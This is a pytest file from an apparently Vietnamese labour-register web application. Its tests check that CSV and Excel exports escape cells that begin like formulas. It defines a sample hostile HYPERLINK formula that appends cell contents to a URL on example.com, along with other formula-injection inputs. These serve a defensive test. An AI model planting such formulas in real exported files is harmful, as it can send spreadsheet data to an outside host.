"""Text that begins like a formula (= + - @) stays text in every file we write that Excel
opens (issue 11, finding 8): the register CSV, the payments XLSX, the police-list error file
and the reports."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook

from laodong.accounts.models import Role
from laodong.collection.police_list import import_list
from laodong.conftest import Tree, login
from laodong.core.cells import csv_cell
from laodong.register.actions import record_person
from laodong.register.tests.test_actions import ANSWERS

HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"Xem")'


def test_csv_cells_that_begin_like_a_formula_are_kept_as_text() -> None:
    for text in ("=1+1", "+84912", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert csv_cell(-5) == -5


def test_the_register_csv_export_escapes_formulas(tree: Tree, users: dict[str, Any]) -> None:
    officer = users[Role.COMMUNE_LABOR_OFFICER]
    record_person(
        acting_user=officer,
        form_code="tt09-2025-m01",
        village=tree.village,
        answers={**ANSWERS, "household_code": "=1+2"},
    )
    response = login(officer).post(reverse("reports-export-people"), {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=1+2" in cells and "=1+2" not in cells


def test_the_payments_workbook_holds_no_formula(
    tree: Tree, users: dict[str, Any], campaign: Any
) -> None:
    from laodong.campaigns.models import PaymentTask
    from laodong.collection.payments import Line, Statement, TaskLines, to_xlsx

    campaign.title = "=2+3"
    found = Statement(
        campaign,
        tree.commune,
        datetime.date(2026, 11, 1),
        datetime.date(2026, 11, 30),
        [TaskLines(PaymentTask.COLLECT, 10_000, [Line(HOSTILE, "@x", 3, 10_000, 1)])],
        made_by="-1+2",
    )
    content = to_xlsx(found)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert HOSTILE in [cell.value for cell in cells]


def test_the_police_list_error_file_holds_no_formula(
    tree: Tree, users: dict[str, Any], campaign: Any, tmp_path: Path
) -> None:
    content = (
        "Họ và tên,Ngày sinh,Số định danh cá nhân,Thôn\n"
        f'"{HOSTILE.replace(chr(34), chr(34) * 2)}",=1990,=123,Thôn 1\n'
        "Nguyễn Văn An,1990,038090000001,Thôn 1\n"
    )
    error_path = tmp_path / "loi.xlsx"
    import_list(
        campaign=campaign,
        commune=tree.commune,
        stream=io.BytesIO(content.encode()),
        filename="ds.csv",
        acting_user=users[Role.COMMUNE_POLICE],
        error_path=error_path,
        dry_run=True,
    )
    sheet = load_workbook(error_path).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert HOSTILE in [cell.value for cell in cells]
